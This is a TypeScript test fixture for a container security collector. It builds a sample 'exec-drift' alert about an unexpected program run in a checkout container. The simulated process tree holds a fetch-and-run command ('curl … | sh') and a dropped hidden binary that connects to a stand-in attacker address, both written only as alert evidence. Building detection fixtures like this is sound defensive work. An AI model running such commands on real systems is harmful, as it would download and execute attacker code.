import { createAlert } from '../../collector/decide/create-alert.ts';
import { formatAlert } from '../../collector/publish/format-alert.ts';
import type { Papers } from '../../collector/records/papers.ts';
import { noVulnerabilities } from '../../collector/records/vulnerability/paper.ts';
import { Attribution, Finding, Severity } from '../../proto/generated/tallyman/v1/finding.ts';
import { ExecutableLayer, ProcessEntry } from '../../proto/generated/tallyman/v1/process.ts';

const atUnixMs = Date.UTC(2026, 10, 23, 3, 14, 3, 218);
const ns = (ms: number): bigint => BigInt(ms) * 1_000_000n;

const papers: Papers = {
  identity: {
    repository: 'registry.acme.io/checkout',
    indexDigest: undefined,
    manifestDigest: `sha256:${'9f3a'.repeat(16)}`,
    configDigest: `sha256:${'77e2'.repeat(16)}`,
    platform: 'linux/amd64',
  },
  signature: {
    outcome: 'verified',
    reason: 'signed with the pinned key acme-release.pub',
    signer: { kind: 'key', name: 'acme-release.pub', keyFingerprint: `sha256:${'ab'.repeat(32)}` },
    records: [
      {
        format: 'cosign-legacy',
        outcome: 'invalid',
        reason: 'the payload is for sha256:aa11…, not this image',
        signer: undefined,
        attachedTo: `sha256:${'9f3a'.repeat(16)}`,
        source: 'tag sha256-9f3a.sig',
      },
    ],
  },
  sbom: {
    outcome: 'untrusted',
    reason: 'found, and not signed',
    format: 'spdx-2.3',
    generator: 'syft 1.18',
    createdAt: '2026-11-21T08:00:00Z',
    componentCount: 312,
    ownedFileCount: 9000,
    documentDigest: undefined,
    attachedTo: undefined,
    source: undefined,
    signer: undefined,
  },
  provenance: {
    outcome: 'absent',
    reason: 'no attestation of provenance was found',
    predicateType: undefined,
    builderId: undefined,
    sourceUri: undefined,
    signer: undefined,
  },
  vulnerabilities: noVulnerabilities('absent', 'no scan report was found'),
  checkedAtUnixMs: atUnixMs,
  freshForMs: 60_000,
};

interface SampleOptions {
  findingId?: string;
  summary?: string;
  containerName?: string;
  /** Arguments of the acting program. */
  argv?: string[];
}

/** A published alert as the collector makes it, for tests of what reads alerts. */
export function sampleAlert(options: SampleOptions = {}): unknown {
  const process = (containerPid: number, path: string, argv: string[], layer: ExecutableLayer) => ({
    executionId: `b00t1d00:${4000 + containerPid}:1:1`,
    pid: 4000 + containerPid,
    containerPid,
    startUnixNs: ns(atUnixMs - 60_000 + containerPid),
    execUnixNs: ns(atUnixMs - 60_000 + containerPid),
    executable: { path, layer },
    argv,
    comm: path.split('/').at(-1) ?? '',
    credentials: { uid: 33, gid: 33, euid: 33, egid: 33, suid: 33, sgid: 33 },
    entry: ProcessEntry.INTERNAL,
    observed: true,
  });
  const finding = Finding.fromPartial({
    findingId: options.findingId ?? '01920000-0000-7000-8000-00000000abcd',
    ruleId: 'exec-drift',
    ruleTitle: 'A program was run that is not part of the image',
    severity: Severity.HIGH,
    summary: options.summary ?? '/tmp/.x was written at run time and then executed by sh (uid 33).',
    remediation: 'Stop the container and keep its writable layer.',
    mitre: [
      {
        techniqueId: 'T1059',
        techniqueName: 'Command and Scripting Interpreter',
        tacticId: 'TA0002',
        tacticName: 'Execution',
      },
    ],
    event: { kind: 'exec', timeUnixNs: ns(atUnixMs), evidence: { $case: 'exec', value: {} } },
    processes: [
      process(41, '/tmp/.x', options.argv ?? ['/tmp/.x', '--pool', '203.0.113.9:4444'], ExecutableLayer.WRITABLE),
      process(38, '/bin/sh', ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'], ExecutableLayer.IMAGE),
      process(17, '/usr/bin/node', ['node', 'server.js'], ExecutableLayer.IMAGE),
      process(1, '/sbin/tini', ['tini'], ExecutableLayer.IMAGE),
    ],
    ancestryComplete: true,
    container: {
      id: 'c0ffee'.padEnd(64, '0'),
      name: options.containerName ?? 'app',
      runtime: 'docker',
      namespace: 'payments',
      podName: 'checkout-7d9f',
      image: { reference: 'registry.acme.io/checkout:4.2.1', configDigest: `sha256:${'77e2'.repeat(16)}` },
      posture: {},
    },
    attribution: Attribution.COMPLETE,
    dataComplete: true,
  });
  const alert = createAlert({
    cluster: 'test',
    createdAtUnixMs: atUnixMs,
    correlated: {
      finding,
      node: { name: 'node-3', bootId: 'b00t1d00', kernelRelease: '6.18.0', architecture: 'x86_64', osName: 'Debian' },
      receivedAtUnixMs: atUnixMs,
      papers,
      ownership: { state: 'not-in-image', path: '/tmp/.x', reason: 'written at run time' },
    },
    decision: {
      action: 'alert',
      severity: 'critical',
      score: 95,
      reasons: [
        { text: 'rule exec-drift is high', points: 70 },
        { text: 'not part of the image', points: 20 },
        { text: 'image is signed: this is an intrusion, not a bad build', points: 5 },
      ],
      policyVersion: 'default@0123456789ab',
    },
  });
  // How trace ids are made is not what readers of alerts are about.
  return JSON.parse(formatAlert({ ...alert, traceId: '259cfa0d4e47be6bf86eae14369d6e06' }).cloudEvent);
}
